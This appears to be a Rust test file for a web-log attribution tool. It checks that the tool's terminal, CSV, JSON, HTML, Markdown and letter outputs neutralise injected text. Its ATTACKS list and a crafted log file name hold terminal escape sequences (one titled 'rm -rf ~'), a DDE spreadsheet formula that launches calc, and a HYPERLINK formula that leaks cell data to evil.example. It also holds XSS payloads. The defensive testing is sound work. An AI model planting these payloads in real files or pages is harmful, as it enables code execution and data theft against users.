//! Injection attacks in logs, orders, partner lists and names of files, searched for in everything that the program
//! writes. Each attack is a known one; each output is parsed as its reader would parse it.

use crate::behaviour::{done, program, run};
use std::collections::BTreeSet;
use std::fmt::Write;
use std::fs;
use std::path::Path;
use tagtrail::base::csv_cell;
use tagtrail::report::escape::is_hidden;
use tagtrail::tables::{Table, TableKind};
use tempfile::TempDir;

/// Texts that a terminal, spreadsheet, page or template could execute, one order each.
const ATTACKS: &[&str] = &[
    // The terminal: clear the screen, set the title and query it, a link that hides its end, overwrite the line.
    "\x1b[2J\x1b[1;1H",
    "\x1b]2;rm -rf ~\x07\x1b[21t",
    "\x1b]8;;http://evil.example/\x1b\\order\x1b]8;;\x1b\\",
    "no\x08\x08yes\x7f",
    "\u{9b}2J",
    // Readers: text that runs backwards, isolates, invisible characters, line ends that only some programs know.
    "a\u{202e}gpj.exe",
    "\u{2066}a\u{2069}b",
    "part\u{200b}ner\u{feff}x",
    "a\u{2028}b\u{2029}c",
    // Spreadsheets.
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1;=HYPERLINK(\"http://evil.example/?\"&A1,\"pay\")",
    "-2+3",
    "@SUM(1+9)",
    "\u{ff1d}1+1",
    "'=1+1",
    // Pages.
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "<!--<script>",
    "{{script}}{{body}}",
    // Markdown.
    "[pay](javascript:alert(1))",
    "![p](http://evil.example/p.png)",
    "<http://evil.example>",
    "a|b|c",
    "`x` ``y``",
    "@everyone",
    "# head",
    // Templates of letters.
    "{order_id}{because}",
];

/// A log's file name that attacks any program that lists it.
const NAME: &str = "web\x1b]0;owned\x07<img src=x onerror=alert(1)>\u{202e}.log";

const SETTINGS: &str = r#"[site]
hosts = ["shop.example"]
session = "cookie:sid"
[site.pages]
checkout = ["/checkout*"]
confirmation = ["/thanks*"]
[policy]
tag_params = ["tag"]
window = "24h"
commission_rate = 0.04
"#;

/// A text in a field of a CSV file.
fn field(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

/// A shop in which every order, partner and log line holds an attack. Every second order was credited.
fn shop() -> TempDir {
    let dir = tempfile::tempdir().expect("a folder");
    let mut log = String::new();
    let mut orders = String::from("order_id,ordered_at,amount,currency,session_id,customer_id,status,tag\n");
    let mut partners = String::from("tag,partner,hosts,status\n");
    let mut truth = String::from("order_id,cause\n");
    for (nth, attack) in ATTACKS.iter().enumerate() {
        let quoted = attack.replace('\\', "\\\\").replace('"', "\\\"");
        let (ip, tag) = (format!("192.0.2.{}", nth + 1), format!("p{nth}{attack}"));
        let encoded: String = tag.bytes().fold(String::new(), |mut text, byte| {
            let _ = write!(text, "%{byte:02X}");
            text
        });
        let mut line = |clock: &str, target: &str, referer: &str| {
            let _ = writeln!(
                log,
                "{ip} - - [01/Sep/2026:{clock} +0000] \"GET {target} HTTP/1.1\" 200 500 \"{referer}\" \"Mozilla/5.0 {quoted}\" \"sid=s{nth}\""
            );
        };
        line("09:00:00", &format!("/dp/X1?tag={encoded}"), &format!("https://p{nth}.example/{quoted}"));
        line("09:04:00", "/checkout", "https://shop.example/dp/X1");
        line("09:05:00", "/thanks", "https://shop.example/checkout");
        let _ = writeln!(log, "broken {attack}");
        let credited = if nth % 2 == 0 { tag.as_str() } else { "" };
        let session = format!("s{nth}");
        let cells = [attack, "2026-09-01T09:05:00Z", "50.00", "EUR", &session, attack, attack, credited];
        let _ = writeln!(orders, "{}", cells.map(field).join(","));
        let _ = writeln!(partners, "{},{},p{nth}.example,active", field(&tag), field(attack));
        let _ = writeln!(truth, "{},{}", field(attack), if nth % 2 == 0 { "" } else { "needs" });
    }
    let files = [(NAME, log), ("orders.csv", orders), ("partners.csv", partners), ("truth.csv", truth)];
    for (name, text) in files.into_iter().chain([("tagtrail.toml", SETTINGS.to_owned())]) {
        fs::write(dir.path().join(name), text).expect("writes");
    }
    dir
}

/// The shop with its result in `result`, and what was printed.
fn analyzed() -> (TempDir, String) {
    let dir = shop();
    let run = run(dir.path(), &["analyze", NAME, "orders.csv", "partners.csv", "--out", "result"]);
    assert_eq!(run.code, Some(0), "{}", run.err);
    harmless("standard error", &run.err);
    (dir, run.out)
}

fn text(dir: &TempDir, name: &str) -> String {
    fs::read_to_string(dir.path().join(name)).expect(name)
}

/// Expects a text without control sequences and invisible characters, except line ends.
fn harmless(what: &str, text: &str) {
    let bad = text.chars().find(|c| is_hidden(*c) && *c != '\n');
    assert_eq!(bad, None, "{what}:\n{}", text.escape_debug());
}

fn verdicts(dir: &TempDir) -> Table {
    Table::read(&dir.path().join("result/verdicts.csv"), TableKind::Csv { delimiter: b',' }).expect("a table")
}

#[test]
fn a_terminal_shows_what_strangers_wrote() {
    let (dir, out) = analyzed();
    harmless("analyze", &out);
    assert!(out.contains(r"\u{202e}.log"), "the name of the log is shown: {out}");
    harmless("rejected.log", &text(&dir, "result/rejected.log").replace('\t', ""));
    let check = done(dir.path(), &["check", NAME, "orders.csv"]);
    harmless("check", &check);
    for attack in ATTACKS {
        let told = done(dir.path(), &["explain", "--result", "result", "--order", attack]);
        harmless("explain", &told);
        assert!(told.contains("Timeline") && told.contains("Lines"), "{attack:?}: {told}");
    }
}

#[test]
fn messages_show_what_strangers_named() {
    let dir = shop();
    for (arguments, code) in [
        (vec!["analyze", "gone\x1b[2J\u{202e}.log"], 1),
        (vec!["explain", "none\x1b]0;x\x07", NAME, "orders.csv", "partners.csv"], 1),
        (vec!["explain", "none\x1b]0;x\x07", "--result", "gone\u{200b}"], 1),
        (vec!["analyze", "--\x1b[2J\u{202e}"], 2),
        (vec!["analyze", "--fail-above-lost", "\x1b[2J"], 2),
    ] {
        let run = run(dir.path(), &arguments);
        assert_eq!(run.code, Some(code), "{}", run.err);
        harmless("a message", &run.err);
        assert!(run.err.contains("\\u{"), "{}", run.err);
    }
}

#[test]
fn a_spreadsheet_runs_nothing_and_ids_come_back() {
    let (dir, _) = analyzed();
    let table = verdicts(&dir);
    assert_eq!(table.rows, ATTACKS.len());
    for column in &table.columns {
        for row in 0..table.rows {
            let cell = column.get(row);
            let begins = cell.trim_start_matches(|c: char| c.is_whitespace() || c == '"' || c == '\u{feff}');
            let first = begins.chars().next();
            let formula = first.is_some_and(|c| "=+@\u{ff1d}\u{ff0b}\u{ff20}".contains(c));
            let number = begins.strip_prefix('-').is_some_and(|rest| rest.parse::<f64>().is_ok());
            assert!(!formula && (first != Some('-') || number), "{cell:?}");
            assert!(!cell.contains(['\x1b', '\u{9b}', '\x07', '\u{202e}', '\u{2066}', '\u{2028}']), "{cell:?}");
        }
    }
    let ids = table.column("order_id").expect("ids");
    let back: BTreeSet<String> = (0..table.rows).map(|row| csv_cell::plain(ids.get(row)).into_owned()).collect();
    assert_eq!(back, ATTACKS.iter().map(|attack| (*attack).to_owned()).collect());
    let run = run(dir.path(), &["score", "truth.csv", "result/verdicts.csv", "--list"]);
    harmless("score", &run.out);
    assert!(!run.out.contains("absent"), "{}", run.out);
    let same = done(dir.path(), &["score", "result/verdicts.csv", "result/verdicts.parquet", "--json"]);
    harmless("score --json", &same);
    let score: serde_json::Value = serde_json::from_str(&same).expect("JSON");
    assert_eq!(score["right"], ATTACKS.len() as u64, "{same}");
}

#[test]
fn json_stays_json_and_shows_no_hidden_character() {
    let (dir, _) = analyzed();
    let summary = text(&dir, "result/summary.json");
    harmless("summary.json", &summary);
    let value: serde_json::Value = serde_json::from_str(&summary).expect("JSON");
    assert_eq!(value["inputs"]["web"][0]["path"], NAME);
    for attack in ATTACKS {
        let told = done(dir.path(), &["explain", "--result", "result", "--order", attack, "--format", "json"]);
        harmless("explain --format json", &told);
        let value: serde_json::Value = serde_json::from_str(&told).expect("JSON");
        assert_eq!(value["stories"][0]["verdict"]["order_id"], *attack);
    }
}

/// The elements and attributes of a page, without the contents of its script, style and packed data.
fn markup(page: &str) -> Vec<(String, Vec<String>)> {
    let mut found = Vec::new();
    let mut rest = page;
    while let Some(at) = rest.find('<') {
        let tag = &rest[at + 1..];
        let mut quoted = false;
        let end = tag.find(|c: char| {
            quoted ^= c == '"';
            c == '>' && !quoted
        });
        let (inside, behind) = tag.split_at(end.expect("a closed tag"));
        // Names of attributes are outside of the quoted values.
        let bare: String = inside.split('"').step_by(2).collect::<Vec<_>>().join(" ");
        let mut words = bare.split([' ', '\n', '=', '/']).filter(|word| !word.is_empty());
        let name = if inside.starts_with('/') { "/" } else { words.next().unwrap_or_default() };
        let names: Vec<String> = if name == "/" { Vec::new() } else { words.map(str::to_owned).collect() };
        rest = &behind[1..];
        if ["script", "style"].contains(&name) {
            rest = &rest[rest.find(&format!("</{name}>")).expect("its end")..];
        }
        found.push((name.to_owned(), names));
    }
    found
}

/// Expects a page with our own markup only.
fn is_our_own(page: &str) {
    const ELEMENTS: &str = "/ !doctype a article body button caption details dialog div dl form h1 h2 h3 head header html input \
label li link main meta nav noscript ol option p rect script section select span strong style summary svg table tbody td \
th thead title tr ul";
    const ATTRIBUTES: &str = "aria-hidden aria-label aria-labelledby aria-live autocomplete charset class content \
data-field data-sort data-value height href html http-equiv id lang name placeholder preserveAspectRatio role scope \
spellcheck tabindex type value viewBox width x y";
    let listed = |list: &str, word: &str| list.split(' ').any(|known| known == word);
    harmless("the page", page);
    let markup = markup(page);
    for (name, attributes) in &markup {
        assert!(listed(ELEMENTS, name), "<{name}> is none of ours");
        for attribute in attributes {
            assert!(listed(ATTRIBUTES, attribute), "{attribute} of <{name}> is none of ours");
        }
    }
    let scripts = page.match_indices("<script>").count();
    assert_eq!(scripts, 1, "one script, and packed data");
    assert!(page.contains("default-src 'none'; script-src 'sha256-"), "the policy");
    for attack in ["<img", "<svg/", "onerror=alert(1)>", "<!--<", "<http", "href=\"java"] {
        assert!(!page.contains(attack), "{attack}");
    }
}

#[test]
fn a_page_holds_no_markup_but_our_own() {
    let (dir, _) = analyzed();
    is_our_own(&text(&dir, "result/report.html"));
    for attack in ATTACKS {
        let page = done(dir.path(), &["explain", "--result", "result", "--order", attack, "--format", "html"]);
        is_our_own(&page);
    }
}

#[test]
fn markdown_holds_no_link_picture_or_html() {
    let (dir, _) = analyzed();
    for attack in ATTACKS {
        let told = done(dir.path(), &["explain", "--result", "result", "--order", attack, "--format", "markdown"]);
        harmless("explain --format markdown", &told);
        for line in told.lines() {
            let bare = outside_of_code(line);
            for mark in ["](", "<", "://", "@", "www.", "javascript:", "!["] {
                let clean = bare.replace("\\<", "").replace("\\[", "").replace("\\]", "").replace("\\!", "");
                assert!(!clean.contains(mark), "{mark} in {line}");
            }
        }
        // Every row of a table has as many cells as its head.
        let cells = |line: &str| line.replace("\\|", "").matches('|').count();
        let table: Vec<&str> =
            told.lines().skip_while(|l| !l.starts_with("| | time")).take_while(|l| l.starts_with('|')).collect();
        assert!(table.len() > 3 && table.iter().all(|line| cells(line) == cells(table[0])), "{attack:?}: {table:#?}");
    }
}

/// A line of Markdown without its code spans, which end with as many backticks as they begin with. Outside of them a
/// backslash escapes what follows; inside it is an ordinary character.
fn outside_of_code(line: &str) -> String {
    let ticks = |text: &str| text.chars().take_while(|c| *c == '`').count();
    let mut bare = String::new();
    let mut rest = line;
    while let Some(c) = rest.chars().next() {
        let fence = ticks(rest);
        if c == '\\' {
            let length = rest.char_indices().nth(2).map_or(rest.len(), |(at, _)| at);
            bare.push_str(&rest[..length]);
            rest = &rest[length..];
        } else if fence == 0 {
            bare.push(c);
            rest = &rest[c.len_utf8()..];
        } else {
            let inside = &rest[fence..];
            let mut ends = inside.char_indices().filter(|(at, c)| *c == '`' && !inside[..*at].ends_with('`'));
            let end = ends.find(|(at, _)| ticks(&inside[*at..]) == fence).map(|(at, _)| at);
            rest = &inside[end.unwrap_or_else(|| panic!("an open code span: {line}")) + fence..];
        }
    }
    bare
}

/// The result of a small simulated shop.
fn simulated(dir: &Path) {
    done(dir, &["simulate", "--orders", "120", "--seed", "5", "--megabytes", "3", "world"]);
    let inputs = ["world/web-*.log", "world/orders.csv", "world/partners.csv", "world/tagtrail.toml"];
    done(dir, &[&["analyze", "--quiet"], inputs.as_slice(), &["--out", "result"]].concat());
}

#[test]
fn a_saved_result_tells_the_same_as_the_logs() {
    let dir = tempfile::tempdir().expect("a folder");
    simulated(dir.path());
    let table = verdicts(&dir);
    let (ids, outcomes) = (table.column("order_id").expect("ids"), table.column("outcome").expect("outcomes"));
    let lost = (0..table.rows).filter(|row| outcomes.get(*row) == "lost").take(3);
    let inputs =
        ["world/web-1.log", "world/web-2.log", "world/orders.csv", "world/partners.csv", "world/tagtrail.toml"];
    let inputs: Vec<&str> = inputs.into_iter().filter(|path| dir.path().join(path).exists()).collect();
    for row in lost {
        let id = ids.get(row);
        let saved = done(dir.path(), &["explain", id, "--result", "result"]);
        let fresh = done(dir.path(), &[&["explain", "--quiet", id], inputs.as_slice()].concat());
        let places = |text: &str| text.replace("world/", "");
        assert_eq!(places(&saved), places(&fresh));
    }
    for row in 0..table.rows {
        let told = done(dir.path(), &["explain", ids.get(row), "--result", "result"]);
        assert!(told.contains(outcomes.get(row)), "{told}");
    }
}

#[test]
fn stories_are_found_by_partner_customer_and_time() {
    let dir = tempfile::tempdir().expect("a folder");
    simulated(dir.path());
    let table = verdicts(&dir);
    let column = |name: &str| table.column(name).expect(name);
    let count = |arguments: &[&str]| {
        let told = done(
            dir.path(),
            &[&["explain", "--result", "result", "--most", "0", "--format", "json"], arguments].concat(),
        );
        let value: serde_json::Value = serde_json::from_str(&told).expect("JSON");
        value["stories"].as_array().expect("stories").len()
    };
    let tag = (0..table.rows).map(|row| column("claimant_tag").get(row)).find(|tag| !tag.is_empty()).expect("a tag");
    let of_tag = |row: &usize| {
        let claimant = column("claimant_tag").get(*row);
        if claimant.is_empty() { column("credited_tag").get(*row) == tag } else { claimant == tag }
    };
    assert_eq!(count(&["--tag", tag]), (0..table.rows).filter(of_tag).count());
    let middle = column("ordered_at").get(table.rows / 2);
    let later = (0..table.rows).filter(|row| column("ordered_at").get(*row) >= middle).count();
    assert_eq!(count(&["--since", middle]), later);
    assert_eq!(count(&["--until", middle]), table.rows - later);
    let run = run(dir.path(), &["explain", "--result", "result", "--since", "2026-01-01", "--most", "2"]);
    assert!(run.code == Some(0) && run.err.contains("2 of 120 orders are shown"), "{}", run.err);
    let orders = fs::read_to_string(dir.path().join("world/orders.csv")).expect("orders");
    let titles: Vec<&str> = orders.lines().next().expect("a header").split(',').collect();
    if let Some(at) = titles.iter().position(|title| *title == "customer_id") {
        let customers: Vec<&str> = orders.lines().skip(1).filter_map(|line| line.split(',').nth(at)).collect();
        let customer = customers.iter().find(|id| !id.is_empty()).expect("a customer");
        assert_eq!(count(&["--customer", customer]), customers.iter().filter(|id| *id == customer).count());
    }
}

#[test]
fn the_same_result_is_the_same_bytes() {
    let dir = tempfile::tempdir().expect("a folder");
    simulated(dir.path());
    let inputs = ["world/web-*.log", "world/orders.csv", "world/partners.csv", "world/tagtrail.toml"];
    let again = [&["analyze", "--quiet", "--threads", "1"], inputs.as_slice(), &["--out", "again"]].concat();
    let status = program(dir.path()).args(again).status().expect("starts");
    assert!(status.success());
    for name in ["report.html", "stories.ndjson.gz", "stories.index", "verdicts.csv"] {
        let read = |folder: &str| fs::read(dir.path().join(folder).join(name)).expect(name);
        assert!(read("result") == read("again"), "{name}");
    }
}

#[test]
fn letters_have_words_for_every_cause_and_print_nothing_hidden() {
    use tagtrail::report::letter::TEMPLATES;
    for (language, text) in TEMPLATES {
        let words: toml::Table = text.parse().expect("TOML");
        for cause in tagtrail::causes::ALL {
            assert!(
                words["cause"].get(cause.id).is_some(),
                "src/report/letters/{language}.toml has no words for {}",
                cause.id
            );
        }
    }
    let (dir, _) = analyzed();
    for (nth, attack) in ATTACKS.iter().enumerate() {
        let (language, _) = TEMPLATES[nth % TEMPLATES.len()];
        let letter =
            done(dir.path(), &["explain", "--result", "result", "--order", attack, "--letter", "--lang", language]);
        harmless("a letter", &letter);
        assert!(!letter.contains("sid=s") && !letter.contains("Mozilla"), "no raw line leaves the house: {letter}");
        assert!(letter.lines().count() > 12, "{letter}");
    }
}

#[test]
fn a_user_has_own_words_and_is_told_what_is_wrong_with_them() {
    let (dir, _) = analyzed();
    let ours = done(dir.path(), &["explain", "--print-template", "--lang", "fr"]);
    let words = dir.path().join("words");
    fs::create_dir(&words).expect("a folder");
    fs::write(words.join("fr.toml"), ours.replace("Bien cordialement", "Votre équipe")).expect("writes");
    fs::write(words.join("nl.toml"), ours.replace("Bonjour", "Dag")).expect("writes");
    fs::write(words.join("de.toml"), "closing = [\"{nobody}\"]").expect("writes");
    let write = |lang: &str| {
        let id = ["--order", "=1+1", "--letter", "--templates", "words", "--lang", lang];
        run(dir.path(), &[["explain", "--result", "result"].as_slice(), &id].concat())
    };
    assert!(write("fr").out.contains("Votre équipe"));
    assert!(write("nl").out.contains("Dag"), "a language of the user's own");
    assert!(write("es").out.contains("Un cordial saludo"), "ours where the folder has none");
    let wrong = write("de");
    assert!(
        wrong.code == Some(1) && wrong.err.contains("\"nobody\"") && wrong.err.contains("--print-template"),
        "{}",
        wrong.err
    );
    assert_eq!(write("xx").code, Some(1));
}

#[test]
fn a_result_is_held_against_an_earlier_one() {
    let dir = tempfile::tempdir().expect("a folder");
    simulated(dir.path());
    let inputs = ["world/web-*.log", "world/orders.csv", "world/partners.csv", "world/tagtrail.toml"];
    let same = done(dir.path(), &[&["analyze", "--quiet", "--compare", "result"], inputs.as_slice()].concat());
    assert!(same.contains("Compared with result") && same.contains("+0.0 points"), "{same}");
    // The place of an earlier result can be the place of the new one.
    let over = [&["analyze", "--compare", "result", "--out", "result"], inputs.as_slice()].concat();
    assert!(done(dir.path(), &over).contains("Compared with result"));
    for place in ["world", "gone"] {
        let none = done(dir.path(), &[&["analyze", "--compare", place, "--out", "first"], inputs.as_slice()].concat());
        assert!(none.contains(&format!("{place} holds no earlier result yet")), "{none}");
        let summary: serde_json::Value = serde_json::from_str(&text(&dir, "first/summary.json")).expect("JSON");
        assert_eq!((&summary["comparison"]["found"], &summary["comparison"]["with"]), (&false.into(), &place.into()));
    }
    let json = done(dir.path(), &[&["analyze", "--json", "--compare", "result"], inputs.as_slice()].concat());
    let json: serde_json::Value = serde_json::from_str(&json).expect("JSON");
    assert_eq!(
        (&json["comparison"]["found"], &json["comparison"]["inputs_differ"]),
        (&true.into(), &serde_json::json!([]))
    );
    assert_eq!(json["comparison"]["figures"][0]["name"], "lost");
    let other = [&["analyze", "--compare", "result"], &inputs[..2], &inputs[3..]].concat();
    let differ = done(dir.path(), &other).split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(differ.contains("Other partner lists: world/partners.csv (gone)."), "{differ}");
    fs::write(dir.path().join("first/summary.json"), "{}").expect("writes");
    let file = run(dir.path(), &[&["analyze", "--compare", "result/verdicts.csv"], inputs.as_slice()].concat());
    assert_eq!((file.code, file.out.as_str(), file.err.lines().count()), (Some(1), "", 1), "{}", file.err);
    assert!(file.err.contains("result/verdicts.csv: is a file, not the folder of a result"), "{}", file.err);
    let run = run(dir.path(), &[&["analyze", "--compare", "first"], inputs.as_slice()].concat());
    assert!(run.code == Some(1) && run.err.contains("summary.json"), "{}", run.err);
}

#[test]
fn a_page_shows_how_right_the_verdicts_are_when_a_truth_is_known() {
    let dir = tempfile::tempdir().expect("a folder");
    simulated(dir.path());
    let inputs = ["world/web-*.log", "world/orders.csv", "world/partners.csv", "world/tagtrail.toml"];
    let with_truth =
        [&["analyze", "--quiet", "--truth", "world/truth.csv", "--out", "result"], inputs.as_slice()].concat();
    assert!(!text(&dir, "result/report.html").contains("Compared with the truth"));
    done(dir.path(), &with_truth);
    let page = text(&dir, "result/report.html");
    is_our_own(&page);
    assert!(page.contains("Compared with the truth: "), "the chart of calibration");
}
